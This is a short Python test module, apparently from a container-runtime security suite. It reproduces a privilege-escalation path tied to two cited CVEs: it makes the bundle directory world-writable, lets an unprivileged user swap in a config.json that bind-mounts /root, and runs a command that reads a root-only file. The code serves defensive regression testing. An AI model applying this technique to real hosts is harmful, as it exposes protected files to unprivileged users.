"""The bundle's directory has mode 0777, so that any user of the host puts another config.json into it."""

import json
import os

from bypass import refused

SOURCE = "CVE-2021-41103, CVE-2024-25621"
WAY = "state"
STOPPED = refused("bundle")


def attack(t):
    t.plant("/root/only-root", 0o600)
    t.lay("cat /x/only-root")
    os.chmod(t.bundle, 0o777)
    t.bind("/root", "/x")
    t.as_user(lambda: (os.unlink(t.bundle + "/config.json"), t.write(t.bundle + "/config.json", json.dumps(t.spec))))
    t.create_by("create", "--bundle", t.bundle, "--pid-file", t.pid_file, t.id)
    t.start()
    return t.leaked(t.ended())
